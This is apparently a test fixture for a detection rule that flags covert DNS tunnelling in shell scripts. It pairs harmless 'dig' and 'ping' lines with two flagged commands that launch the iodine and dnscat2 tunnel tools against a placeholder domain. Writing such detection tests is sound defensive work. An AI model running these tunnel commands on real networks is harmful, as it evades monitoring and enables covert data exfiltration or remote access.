#!/bin/sh
# ok: covert-channel-tunnel
dig +short example.org
# ok: covert-channel-tunnel
ping -c 3 203.0.113.7
# ruleid: covert-channel-tunnel
iodine -f -P "$PASS" t.example.org
# ruleid: covert-channel-tunnel
./dnscat2 --secret=abc t.example.org
